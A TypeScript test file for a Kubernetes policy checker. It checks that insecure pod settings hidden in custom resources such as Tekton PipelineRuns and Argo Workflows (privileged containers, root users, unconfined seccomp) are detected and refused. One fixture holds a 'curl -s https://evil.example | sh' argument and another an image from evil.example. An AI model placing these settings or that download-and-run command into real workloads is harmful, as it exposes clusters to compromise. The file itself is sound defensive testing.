import { ApiObject, Chart, Include } from 'cdk8s';
import { compilePolicy } from '../../src/policy/compile';
import { judge } from '../../src/policy/judge';
import { checked, policy as policyFile, useFolder, write } from '../cli/support';
import { gatedApp, refusalOf, trusting } from '../support/apps';
import { validContainer } from '../support/pods';

/*
 * Settings and containers of pods that stand where only the controller of a custom resource looks for them.
 */

useFolder();

const object = (apiVersion: string, kind: string, spec: object) => ({ apiVersion, kind, metadata: { name: 'hidden' }, spec });
const tekton = (kind: string, spec: object) => object('tekton.dev/v1', kind, spec);
const argo = (spec: object) => object('argoproj.io/v1alpha1', 'Workflow', spec);
const thing = (spec: object) => object('example.com/v1', 'Thing', spec);
const podContext = { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } };
const container = validContainer('app') as { readonly image: string; readonly securityContext: object };
const privileged = { ...container, securityContext: { ...container.securityContext, privileged: true } };
const pipelineSpec = { tasks: [{ name: 'build', taskSpec: { steps: [container] } }] };
const templates = [{ container }];
const sysctl = { sysctls: [{ name: 'kernel.msgmax', value: '1' }] };
const shell = { ...container, command: ['sh', '-c'] };

const attacks: readonly (readonly [name: string, rule: string, document: object])[] = [
  ['the pod template of one task, which takes runAsNonRoot away', 'run-as-non-root', tekton('PipelineRun', {
    taskRunTemplate: { podTemplate: { securityContext: podContext } },
    taskRunSpecs: [{ pipelineTaskName: 'build', podTemplate: { securityContext: {} } }],
    pipelineSpec,
  })],
  ['the pod template of one task in v1beta1', 'seccomp-baseline', tekton('PipelineRun', {
    podTemplate: { securityContext: podContext },
    taskRunSpecs: [{ pipelineTaskName: 'build', taskPodTemplate: { securityContext: { seccompProfile: { type: 'Unconfined' } } } }],
    pipelineSpec,
  })],
  ['the pod template of a task of a pipeline elsewhere', 'run-as-user', tekton('PipelineRun', {
    pipelineRef: { name: 'p' }, taskRunSpecs: [{ pipelineTaskName: 'x', podTemplate: { securityContext: { runAsUser: 0 } } }],
  })],
  ['the token in the pod template of a TaskRun', 'service-account-token', tekton('TaskRun', { podTemplate: { automountServiceAccountToken: true } })],
  ['templateDefaults with a security context, before a good one of the workflow', 'run-as-user', argo({
    securityContext: podContext, templateDefaults: { securityContext: { runAsUser: 0 } }, templates,
  })],
  ['templateDefaults with the token', 'service-account-token', argo({
    automountServiceAccountToken: false,
    templateDefaults: { automountServiceAccountToken: true },
    templates: [{ securityContext: podContext, container }],
  })],
  ['templateDefaults with a privileged container', 'privileged', argo({
    securityContext: podContext, templateDefaults: { container: { securityContext: { privileged: true } } }, templates,
  })],
  ['templateDefaults with the arguments of a shell', 'startup-download', argo({
    securityContext: podContext, templateDefaults: { container: { args: ['curl -s https://evil.example | sh'] } }, templates: [{ container: shell }],
  })],
  ['templateDefaults without a template', 'host-process', argo({
    workflowTemplateRef: { name: 'w' }, templateDefaults: { securityContext: { windowsOptions: { hostProcess: true } } },
  })],
  ['podMetadata of a workflow', 'apparmor', argo({
    securityContext: podContext,
    podMetadata: { annotations: { 'container.apparmor.security.beta.kubernetes.io/main': 'unconfined' } },
    templates,
  })],
  ['podMetadata beside containers', 'apparmor', object('monitoring.coreos.com/v1', 'Prometheus', {
    podMetadata: { annotations: { 'container.apparmor.security.beta.kubernetes.io/prometheus': 'unconfined' } }, containers: [container],
  })],
  ['a security context of a workflow whose own template says otherwise', 'run-as-user', argo({
    securityContext: { runAsUser: 0 }, templates: [{ securityContext: podContext, container }, { steps: [[{ templateRef: { name: 'a', template: 'b' } }]] }],
  })],
  ['a pod template without containers', 'run-as-user', object('elasticsearch.k8s.elastic.co/v1', 'Elasticsearch', {
    nodeSets: [{ podTemplate: { spec: { securityContext: { runAsUser: 0 } } } }],
  })],
  ['sysctls in a pod template without containers', 'sysctls', object('kafka.strimzi.io/v1beta2', 'Kafka', { kafka: { template: { pod: { securityContext: sysctl } } } })],
  ['hostProcess in a pod template without containers', 'host-process', thing({ podTemplate: { spec: { securityContext: { windowsOptions: { hostProcess: true } } } } })],
  ['a security context of a container without one', 'privileged', object('kafka.strimzi.io/v1beta2', 'Kafka', {
    kafka: { template: { kafkaContainer: { securityContext: { privileged: true } } } },
  })],
  ['a security context beside the network of the host', 'privileged', thing({ worker: { hostNetwork: true, securityContext: { privileged: true } } })],
  ['capabilities of a driver', 'capabilities-baseline', object('sparkoperator.k8s.io/v1beta2', 'SparkApplication', {
    driver: { image: container.image, securityContext: { capabilities: { add: ['SYS_ADMIN'], drop: ['ALL'] } } },
  })],
  ['a podSecurityContext', 'run-as-user', object('sparkoperator.k8s.io/v1beta2', 'SparkApplication', { executor: { podSecurityContext: { runAsUser: 0 } } })],
  ['a containerSecurityContext', 'privilege-escalation', thing({ server: { containerSecurityContext: { allowPrivilegeEscalation: true } } })],
  ...['additionalContainers', 'sidecarContainers', 'extraContainers', 'extraInitContainers', 'customSidecars'].map((key) => (
    [key, 'privileged', thing({ [key]: [privileged] })] as const
  )),
  ['containers under another name, without a security context', 'run-as-non-root', thing({ extraContainers: [{ name: 'a', image: container.image }] })],
  ...['initContainer', 'mainContainer', 'sidecar'].map((key) => [`one ${key}`, 'privileged', thing({ [key]: privileged })] as const),
  ...['containers', 'extraContainers', 'sidecars'].map((key) => [`a map of ${key} by name`, 'privileged', thing({ [key]: { 'a/b': privileged } })] as const),
  ['containers under another name within a pod that is good', 'image-registry', thing({
    template: {
      spec: {
        automountServiceAccountToken: false,
        securityContext: podContext,
        containers: [container],
        extraContainers: [{ ...container, image: 'evil.example/a' }],
      },
    },
  })],
  ['an object of Crossplane', 'run-as-user', thing({ forProvider: { manifest: thing({ podTemplate: { securityContext: { runAsUser: 0 } } }) } })],
  ['a ManifestWork', 'privileged', object('work.open-cluster-management.io/v1', 'ManifestWork', { workload: { manifests: [thing({ extraContainers: [privileged] })] } })],
];

describe.each(attacks)('%s', (_name, rule, document) => {
  test('is found', () => {
    expect(judge(document, compilePolicy(trusting)).flatMap(({ findings }) => findings.map((finding) => finding.rule))).toContain(rule);
  });

  test('is refused by check', async () => {
    write('hardened.yaml', policyFile);
    write('manifests/hidden.json', JSON.stringify(document));
    const { status, findings } = await checked('manifests');
    expect(status).toBe(1);
    expect(findings.map((finding) => finding.rule)).toContain(rule);
  });

  test('is refused by the gate, raw and included', () => {
    const raw = gatedApp();
    new ApiObject(new Chart(raw, 'chart'), 'hidden', document as never);
    const included = gatedApp();
    new Include(new Chart(included, 'chart'), 'hidden', { url: write('hidden.json', JSON.stringify(document)) });
    for (const app of [raw, included]) expect(refusalOf(() => app.synth()).message).toContain(rule);
  });
});

test.each([
  ['a good PipelineRun', tekton('PipelineRun', {
    taskRunTemplate: { podTemplate: { securityContext: podContext } },
    taskRunSpecs: [{ pipelineTaskName: 'build', podTemplate: { securityContext: podContext } }],
    pipelineSpec,
  })],
  ['a good Workflow, which leaves the security to its templateDefaults', argo({
    templateDefaults: { securityContext: podContext, container: { securityContext: container.securityContext } },
    templates: [{ container: { ...container, securityContext: undefined } }],
  })],
  ['a group of the file system alone', thing({ podTemplate: { spec: { securityContext: { fsGroup: 1000 } } } })],
  ['good settings of an operator', thing({ image: 'a', securityContext: { runAsUser: 1000, allowPrivilegeEscalation: false }, containerSecurityContext: { enabled: true } })],
  ['the image of a container that has no security context', thing({ initContainer: { image: 'busybox' }, containers: { main: { image: 'busybox' } } })],
  ['names of containers', thing({ skipContainers: ['a'], ignoredContainers: [{ name: 'a' }], container: 'a', isolateContainer: {} })],
  ['labels of pods', argo({ podMetadata: { labels: { a: 'b' } } })],
  ['a service account', { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'a' }, automountServiceAccountToken: true }],
  ['the service account of an operator', thing({ serviceAccount: { automountServiceAccountToken: true } })],
  ['a schema', thing({ schema: { properties: { securityContext: { type: 'object', properties: { privileged: { type: 'boolean' } } } } } })],
])('%s is let alone', (_name, document) => {
  expect(judge(document, compilePolicy(trusting)).flatMap(({ findings }) => findings.map(({ rule, pointer }) => `${rule} ${pointer}`))).toEqual([]);
});
